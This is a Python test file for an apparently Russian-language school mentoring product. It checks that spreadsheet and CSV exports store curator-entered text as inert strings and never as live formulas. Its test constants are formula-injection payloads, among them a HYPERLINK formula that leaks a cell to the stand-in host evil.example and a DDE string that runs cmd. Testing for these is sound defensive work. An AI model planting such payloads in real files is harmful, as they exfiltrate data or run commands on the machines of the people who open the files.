"""Every workbook and CSV the product writes holds inert text, never a live formula."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.cli.base import cli
from i18n import Translator
from reports.data import PairRow
from reports.sheets import write_csv, write_xlsx
from reports.xlsx import analytical_report
from storage import pairs as pair_store
from storage.db import Database
from storage.practices import PracticeRow
from tests.admin_web import AdminWeb, admin_web, make_person
from tests.factories import make_member, make_school
from tests.test_admin_import import _upload
from tests.test_cli import _add_school
from tests.test_reports_xlsx import header_row, stats_report, texts

ORDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Приказ")'
TITLE = "+1+cmd|' /C calc'!A0"
NAME = "@SUM(A1)"
HOSTILE = (ORDER, TITLE, NAME, "-2+3", "\t=1+1", "\r=1+1")


def _cells(sheet: Worksheet) -> list:
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_inert(cells: list, expected: tuple[str, ...]) -> None:
    """Each hostile text is in the file as a string with an apostrophe in front."""
    for text in (text.replace("\r", "\n") for text in expected):  # XML reads CR as LF
        found = [cell for cell in cells if isinstance(cell.value, str) and text in cell.value]
        assert found, text
        for cell in found:
            assert cell.data_type == "s", (text, cell.data_type)
            assert cell.value.startswith("'"), cell.value
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_analytical_report_writes_a_curators_texts_as_text() -> None:
    report = stats_report()
    report = replace(
        report,
        pairs=(
            PairRow("Школа № 1", NAME, ("Петров П.",), "ученик–ученик", ORDER, None, "approved"),
        ),
        practices=(PracticeRow(NAME, "2026-Q3", TITLE, "-2+3", "\t=1+1"),),
    )
    book = load_workbook(io.BytesIO(analytical_report(report, texts())))
    cells = [cell for sheet in book.worksheets for cell in _cells(sheet)]
    _assert_inert(cells, (ORDER, TITLE, NAME, "-2+3", "\t=1+1"))
    impact = book["Динамика"]
    assert impact.cell(header_row(impact) + 1, 2).data_type == "n"  # numbers stay numbers


def test_the_one_writer_keeps_numbers_and_escapes_only_text() -> None:
    header = ["Текст", "Число", "Дата"]
    rows = [[text, -5, date(2026, 9, 1)] for text in HOSTILE]
    sheet = load_workbook(io.BytesIO(write_xlsx(header, rows, "Лист"))).active
    assert sheet is not None
    _assert_inert(_cells(sheet), HOSTILE)
    assert [sheet.cell(row=n, column=2).value for n in range(2, 8)] == [-5] * 6
    assert sheet["B2"].data_type == "n"
    table = list(
        csv.reader(io.StringIO(write_csv(header, rows).decode("utf-8-sig")), delimiter=";")
    )
    assert [row[0] for row in table[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in table[1:]} == {"-5"}  # a negative number is not escaped


@pytest.fixture
def runner(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> CliRunner:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
    return CliRunner()


@pytest.fixture
async def web(db: Database, translator: Translator) -> AsyncIterator[AdminWeb]:
    async with admin_web(db, translator) as env:
        yield env


async def test_the_pairs_order_list_is_inert(web: AdminWeb, db: Database) -> None:
    school = await make_school(db)
    mentor = await make_member(db, 71_001, NAME, school, "mentor")
    mentee = await make_member(db, 71_002, TITLE, school, "mentee")
    async with db.begin() as conn:
        await pair_store.create_pair(
            conn,
            organisation_id=school,
            mentor_id=mentor,
            mentee_ids=[mentee],
            form="student_student",
            order_number=ORDER,
            order_date=date(2026, 9, 15),
            approved_by=None,
            fit_flag=True,
            now=datetime(2026, 9, 15, tzinfo=UTC),
        )
    curator = await web.signed_in(await make_person(db, "Кураторова Вера", "curator", school))
    response = await curator.get(f"/admin/pairs/{school}/order.xlsx")
    assert response.status == 200
    sheet = load_workbook(io.BytesIO(await response.read())).active
    assert sheet is not None
    _assert_inert(_cells(sheet), (ORDER, TITLE, NAME))


async def test_the_people_export_is_inert(web: AdminWeb, db: Database) -> None:
    school = await make_school(db)
    await make_member(db, 71_003, NAME, school, "mentee")
    curator = await web.signed_in(await make_person(db, "Кураторова Вера", "curator", school))
    report = await _upload(curator, school, "7a.csv", f"ФИО;Класс\nИванова Анна;{TITLE}\n".encode())
    assert "Импортировано: 1" in report

    response = await curator.get(f"/admin/people/export.xlsx?organisation={school}")
    sheet = load_workbook(io.BytesIO(await response.read())).active
    assert sheet is not None
    _assert_inert(_cells(sheet), (TITLE, NAME))

    response = await curator.get(f"/admin/people/export.csv?organisation={school}")
    text = (await response.read()).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + TITLE in cells and "'" + NAME in cells
    assert TITLE not in cells and NAME not in cells


def test_the_cli_people_list_is_inert(runner: CliRunner, tmp_path: Path) -> None:
    org_id = _add_school(runner)

    async def add_person() -> None:
        db = Database(f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
        try:
            await make_member(db, 71_004, NAME, int(org_id), "mentee")
        finally:
            await db.close()

    asyncio.run(add_person())
    listed = runner.invoke(cli, ["people", "list", "--org", org_id, "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    names = [row[1] for row in csv.reader(io.StringIO(listed.stdout))][1:]
    assert names == ["'" + NAME]
